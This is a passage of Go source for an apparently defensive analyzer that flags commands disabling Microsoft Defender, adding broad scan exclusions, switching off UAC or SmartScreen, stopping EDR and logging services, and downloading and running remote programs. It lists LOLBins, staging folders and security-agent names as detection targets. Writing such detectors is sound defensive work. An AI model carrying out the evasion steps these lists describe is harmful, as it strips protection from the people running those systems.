				set(tcHit{what: "switches off Microsoft Defender protection (" + cmd + " " + args[i].Value + ")", tier: tcStrong})
			default:
				set(tcHit{what: "narrows Microsoft Defender scanning (" + cmd + " -" + args[i].Value[1:] + ")", tier: tcRoutine})
			}
		case param == "mapsreporting" && (val == "0" || val == "disabled"):
			set(tcHit{what: "switches off Microsoft Defender cloud protection (" + cmd + " -MAPSReporting " + val + ")", tier: tcStrong})
		case param == "submitsamplesconsent" && (val == "2" || val == "neversend"):
			set(tcHit{what: "stops Microsoft Defender sending samples for analysis (" + cmd + " -SubmitSamplesConsent " + val + ")", tier: tcStrong})
		case (param == "enablecontrolledfolderaccess" || param == "enablenetworkprotection") && (val == "0" || val == "disabled"):
			set(tcHit{what: "switches off Microsoft Defender protection (" + cmd + " " + args[i].Value + " " + val + ")", tier: tcStrong})
		case param == "puaprotection" && (val == "0" || val == "disabled"):
			set(tcHit{what: "switches off Microsoft Defender PUA protection (" + cmd + ")", tier: tcRoutine})
		}
	}
	return hit, found
}

// tcStagingRx: Windows folders payloads are staged in (temporary, roaming,
// public, shared, downloads, startup folders: anything under them), and
// roots (a drive, the Windows or users folders, a profile); an exclusion
// for them blinds the scanner for whatever lands there. Paths are
// normalised by tcNormWinPath first.
var tcStagingRx = match.MustRx(`(?i)^(?:%temp%|%appdata%|%localappdata%|c:\\users\\public|c:\\programdata|[a-z]:\\windows\\temp|%windir%\\temp|%userprofile%\\(?:downloads|desktop|documents|appdata))(?:\\|$)|\\(?:temp|tmp|appdata|downloads|public|programdata|startup)(?:\\|$)|^(?:\*|\\|[a-z]:|%userprofile%|%windir%|%systemroot%|%homedrive%|[a-z]:\\(?:users|windows|windows\\system32|program files(?: \(x86\))?|programdata)|[a-z]:\\users\\[^\\]+)$`)

// tcLOLBins are the processes whose exclusion lets any script or
// command they run through.
var tcLOLBins = map[string]bool{"powershell": true, "pwsh": true, "cmd": true, "wscript": true, "cscript": true, "mshta": true,
	"rundll32": true, "regsvr32": true, "msiexec": true, "explorer": true, "svchost": true, "conhost": true, "bitsadmin": true,
	"certutil": true, "installutil": true, "regasm": true, "msbuild": true, "wmic": true}

var tcExecExts = map[string]bool{"exe": true, "dll": true, "ps1": true, "psm1": true, "bat": true, "cmd": true, "vbs": true,
	"vbe": true, "js": true, "jse": true, "hta": true, "scr": true, "msi": true, "jar": true, "lnk": true, "com": true,
	"pif": true, "wsf": true, "sys": true, "zip": true, "7z": true, "rar": true, "iso": true, "*": true}

// tcBroadExclusion reports an exclusion that blinds Defender for more
// than a project: staging folders and roots, interpreters, executable
// extensions, and targets the skill does not name (a variable).
func tcBroadExclusion(kind, t string) bool {
	switch kind {
	case "extension":
		return tcExecExts[strings.TrimPrefix(strings.TrimPrefix(strings.ToLower(t), "*"), ".")]
	case "process":
		if tcLOLBins[tcBase(t)] || t == "*" {
			return true
		}
		n := tcNormWinPath(t)
		return strings.Contains(n, `\`) && tcStagingRx.MatchString(n[:strings.LastIndexByte(n, '\\')])
	case "path":
		n := tcNormWinPath(t)
		if n == "." || n == ".." || strings.HasPrefix(n, `.\`) || strings.HasPrefix(n, "$pwd") || strings.HasPrefix(n, "$psscriptroot") {
			return false
		}
		if strings.HasPrefix(n, "$") && !strings.HasPrefix(n, "$env:") && !strings.HasPrefix(n, "$home") {
			return true // a variable: not a folder the skill names
		}
		return tcStagingRx.MatchString(n)
	}
	return false
}

// tcEnvPaths spell the same folders one way, so that an exclusion and a
// download path written differently ($env:PUBLIC, %PUBLIC%, C:\Users\Public)
// compare equal.
var tcEnvPaths = [][2]string{
	{"$env:temp", "%temp%"}, {"$env:tmp", "%temp%"}, {"%tmp%", "%temp%"},
	{"$env:appdata", "%appdata%"}, {"$env:localappdata", "%localappdata%"},
	{"$env:userprofile", "%userprofile%"}, {"$home", "%userprofile%"}, {"~", "%userprofile%"},
	{"$env:public", `c:\users\public`}, {"%public%", `c:\users\public`},
	{"$env:programdata", `c:\programdata`}, {"%programdata%", `c:\programdata`}, {"%allusersprofile%", `c:\programdata`},
}

// tcNormWinPath lower-cases a Windows path with backslashes, without
// quotes or a trailing separator or wildcard.
func tcNormWinPath(t string) string {
	n := strings.ToLower(strings.Trim(strings.TrimSpace(t), `"'`))
	n = strings.ReplaceAll(n, "/", `\`)
	n = strings.ReplaceAll(n, "${env:", "$env:")
	n = strings.ReplaceAll(n, "}", "")
	for _, r := range tcEnvPaths {
		if strings.HasPrefix(n, r[0]) && (len(n) == len(r[0]) || n[len(r[0])] == '\\') {
			n = r[1] + n[len(r[0]):]
			break
		}
	}
	for strings.HasSuffix(n, `\*`) || strings.HasSuffix(n, `\`) && len(n) > 1 {
		n = strings.TrimSuffix(strings.TrimSuffix(n, `*`), `\`)
	}
	return n
}

// tcRegistry judges registry writes to the Defender, UAC and SmartScreen
// policy values.
func tcRegistry(name string, args []shell.Word, low []string, vars map[string]string) (tcHit, bool) {
	if name == "reg" && (len(low) == 0 || low[0] != "add") {
		return tcHit{}, false
	}
	j := strings.Join(low, " ")
	valName, data := "", ""
	if name == "reg" {
		for i, v := range low {
			if v == "/v" && i+1 < len(low) {
				valName = low[i+1]
			}
			if v == "/d" && i+1 < len(low) {
				data = strings.Trim(low[i+1], `"'`)
			}
		}
	} else {
		valName, _ = tcOpt(low, "name")
		data, _ = tcOpt(low, "value")
		data = strings.Trim(data, `"'`)
	}
	valName = strings.Trim(valName, `"'`)
	switch {
	case strings.Contains(j, `windows defender\exclusions\paths`) || strings.Contains(j, `windows defender\exclusions\processes`):
		kind := "path"
		if strings.Contains(j, `\processes`) {
			kind = "process"
		}
		t := tcResolve(valName, vars)
		h := tcHit{tier: tcRoutine, narrow: true, what: "excludes " + match.Clip(t, 60) + " from Microsoft Defender scans through the registry; a named project folder or tool"}
		if tcBroadExclusion(kind, t) {
			h = tcHit{tier: tcStrong, what: "excludes " + match.Clip(t, 60) + " from Microsoft Defender scans through the registry"}
		}
		if kind == "path" {
			h.excl = []string{tcNormWinPath(t)}
		}
		return h, true
	case strings.Contains(j, "windows defender") && strings.HasPrefix(valName, "disable") && data != "0":
		return tcHit{what: "switches off Microsoft Defender through the registry (" + tcOrig(args, valName) + ")", tier: tcStrong}, true
	case valName == "enablelua" && data == "0":
		return tcHit{what: "switches off User Account Control through the registry (EnableLUA 0)", tier: tcStrong}, true
	case (valName == "enablesmartscreen" && data == "0") || (valName == "smartscreenenabled" && data == "off"):
		return tcHit{what: "switches off SmartScreen through the registry (" + tcOrig(args, valName) + ")", tier: tcStrong}, true
	}
	return tcHit{}, false
}

// tcOrig returns the word of args spelled low in lower case, as written.
func tcOrig(args []shell.Word, low string) string {
	for _, w := range args {
		if v := strings.Trim(tcText(w), `"'`); strings.EqualFold(v, low) {
			return v
		}
	}
	return low
}

// tcServiceNames maps service, unit, daemon and process names to the
// control they are, and the tier of stopping them.
var tcServiceNames = map[string]struct {
	label string
	tier  tcTier
}{
	"windefend": {"the Microsoft Defender antivirus service", tcStrong}, "sense": {"the Microsoft Defender for Endpoint sensor", tcStrong},
	"wdnissvc": {"the Microsoft Defender network inspection service", tcStrong}, "wdfilter": {"the Microsoft Defender driver", tcStrong},
	"wdboot": {"the Microsoft Defender boot driver", tcStrong}, "securityhealthservice": {"the Windows Security service", tcStrong},
	"msmpeng": {"the Microsoft Defender engine", tcStrong}, "mssense": {"the Microsoft Defender for Endpoint sensor", tcStrong},
	"nissrv": {"the Microsoft Defender network inspection service", tcStrong}, "mdatp": {"Microsoft Defender for Endpoint", tcStrong},
	"wdavdaemon": {"Microsoft Defender for Endpoint", tcStrong}, "falcon-sensor": {"the CrowdStrike Falcon sensor", tcStrong},
	"falcond": {"the CrowdStrike Falcon sensor", tcStrong}, "csfalconservice": {"the CrowdStrike Falcon sensor", tcStrong},
	"cbagentd": {"the Carbon Black agent", tcStrong}, "cbdefense": {"the Carbon Black agent", tcStrong},
	"cylancesvc": {"the Cylance agent", tcStrong}, "sentinelone": {"the SentinelOne agent", tcStrong},
	"sentinelagent": {"the SentinelOne agent", tcStrong}, "sentinel-agent": {"the SentinelOne agent", tcStrong},
	"sentineld": {"the SentinelOne agent", tcStrong}, "sophos-spl": {"the Sophos agent", tcStrong}, "savservice": {"the Sophos antivirus", tcStrong},
	"clamav-daemon": {"the ClamAV scanner", tcStrong}, "clamd": {"the ClamAV scanner", tcStrong}, "clamonacc": {"ClamAV on-access scanning", tcStrong},
	"clamav-freshclam": {"ClamAV signature updates", tcStrong}, "freshclam": {"ClamAV signature updates", tcStrong},
	"xagt": {"the Trellix/FireEye endpoint agent", tcStrong}, "elastic-endpoint": {"the Elastic endpoint agent", tcStrong},
	"ds_agent": {"the Trend Micro agent", tcStrong}, "wazuh-agent": {"the Wazuh agent", tcStrong}, "ossec": {"the OSSEC agent", tcStrong},
	"ossec-hids": {"the OSSEC agent", tcStrong}, "osqueryd": {"osquery monitoring", tcStrong},
	"auditd": {"the Linux audit daemon", tcStrong}, "rsyslog": {"system logging", tcStrong}, "syslog": {"system logging", tcStrong},
	"syslog-ng": {"system logging", tcStrong}, "systemd-journald": {"system logging", tcStrong}, "eventlog": {"the Windows event log", tcStrong},
	"sysmon": {"Sysmon monitoring", tcStrong}, "sysmon64": {"Sysmon monitoring", tcStrong}, "auditbeat": {"Auditbeat monitoring", tcStrong},
	"firewalld": {"the firewall", tcRoutine}, "ufw": {"the firewall", tcRoutine}, "iptables": {"the firewall", tcRoutine},
	"ip6tables": {"the firewall", tcRoutine}, "nftables": {"the firewall", tcRoutine}, "netfilter-persistent": {"the firewall", tcRoutine},
	"mpssvc": {"Windows Firewall", tcRoutine}, "apparmor": {"AppArmor", tcRoutine}, "fail2ban": {"fail2ban", tcRoutine},
}

// tcService names the control a service, unit, process or launchd job
// is.
func tcService(v string) (string, tcTier, bool) {
	for _, n := range strings.Fields(v) {
		n = strings.Trim(n, `"',`)
		low := strings.ToLower(n)
		// launchd jobs and plists name the vendor
		switch {
		case strings.Contains(low, "xprotect"):
			return "XProtect, the macOS malware scanner", tcStrong, true
		case strings.Contains(low, "com.apple.mrt"):
			return "the macOS malware removal tool", tcStrong, true
		case strings.Contains(low, "com.apple.syspolicy") || strings.Contains(low, "syspolicyd"):
			return "Gatekeeper's policy daemon", tcStrong, true
		case strings.Contains(low, "com.crowdstrike") || strings.Contains(low, "crowdstrike"):
			return "the CrowdStrike Falcon sensor", tcStrong, true
		case strings.Contains(low, "com.sentinelone"):
			return "the SentinelOne agent", tcStrong, true
		case strings.Contains(low, "com.apple.alf"):
			return "the macOS application firewall", tcRoutine, true
		}
		low = tcBase(low)
		low = strings.TrimSuffix(strings.TrimSuffix(low, ".service"), ".plist")
		if e, ok := tcServiceNames[low]; ok {
			return e.label, e.tier, true
		}
	}
	return "", 0, false
}

// tcFetches lists the programs the file's commands download: saved as an
// executable, run after the download, or piped into an interpreter, from
// any host but a package registry, loopback or the local network.
func tcFetches(sites []analyzer.ShellSite) []tcFetch {
	var out []tcFetch
	for i := range sites {
		s := sites[i].Script
		vars := tcPSVars(s)
		for k, c := range s.Commands {
			if !shellfacts.IsDownloader(c) && c.Name != "start-bitstransfer" {
				continue
			}
			var urls []string
			for _, w := range c.Params() {
				if u := intel.URLRx.FindString(tcResolve(w.Value, vars)); u != "" {
					urls = append(urls, u)
				}
			}
			if len(urls) == 0 {
				continue
			}
			class, host, _ := shellfacts.HostRisk(urls)
			if class == intel.HostKnownAPI || class == intel.HostLoopback || class == intel.HostPrivate {
				continue
			}
			out0, saved := shellfacts.OutputFile(c)
			switch c.Name {
			case "start-bitstransfer":
				out0, saved = tcOpt(tcLow(c.Params()), "destination")
			case "bitsadmin", "certutil":
				// the last word is where the file goes
				if ps := c.Params(); len(ps) > 1 && !strings.HasPrefix(ps[len(ps)-1].Value, "-") && intel.URLRx.FindString(ps[len(ps)-1].Value) == "" {
					out0, saved = tcText(ps[len(ps)-1]), true
				}
			}
			out0 = tcResolve(out0, vars)
			program := shellfacts.PipeSinkInterp(s, c) != nil
			if saved && out0 != "" {
				program = program || tcExecExtRx.MatchString(out0) || !strings.Contains(out0[strings.LastIndexAny(out0, `/\`)+1:], ".")
				for _, x := range shellfacts.Ahead(s, k) {
					if program {
						break
					}
					program = shellfacts.RunsFile(x, out0) || tcStarts(x, out0, vars)
				}
			}
			if program {
				f := tcFetch{host: host, class: class}
				if saved {
					f.out = tcNormWinPath(out0)
				}
				out = append(out, f)
			}
		}
		for _, m := range tcDownloadCallRx.FindAllStringSubmatch(sites[i].Text, -1) {
			class, host, _ := shellfacts.HostRisk([]string{m[1]})
			if class == intel.HostKnownAPI || class == intel.HostLoopback || class == intel.HostPrivate {
				continue
			}
			f := tcFetch{host: host, class: class}
			if m[2] != "" {
				f.out = tcNormWinPath(tcResolve(m[2], vars))
			}
			out = append(out, f)
		}
	}
	return out
}

// tcStarts reports Start-Process/start/Invoke-Item of the file f.
func tcStarts(c *shell.Command, f string, vars map[string]string) bool {
	switch c.Name {
	case "start-process", "saps", "start", "invoke-item", "ii", "&":
		for _, w := range c.Params() {
			if shellfacts.SameFile(tcResolve(w.Value, vars), f) {
				return true
			}
		}
	}
	return false
}

// tcRunPython reads the command lines Python hands to a shell or a
// process (os.system, subprocess with a string or a list).
func tcRunPython(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	for _, call := range m.Calls {
		text, ok := pyfacts.CommandText(m, call)
		if !ok || text == "" {
			continue
		}
		start, end := m.Span(call)
		s := shell.ParseAnchored(text, start, end)
		var fetches []tcFetch
		hits := tcSiteHits(&analyzer.ShellSite{Kind: analyzer.SiteScript, Script: s, Text: text})
		if len(hits) == 0 {
			continue
		}
		fetches = tcFetches([]analyzer.ShellSite{{Kind: analyzer.SiteScript, Script: s, Text: text}})
		for _, h := range hits {
			sev, note := tcGrade(h, false, fetches)
			pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: sev, Message: h.what + " (from Python)" + note})
		}
	}
	return nil
}
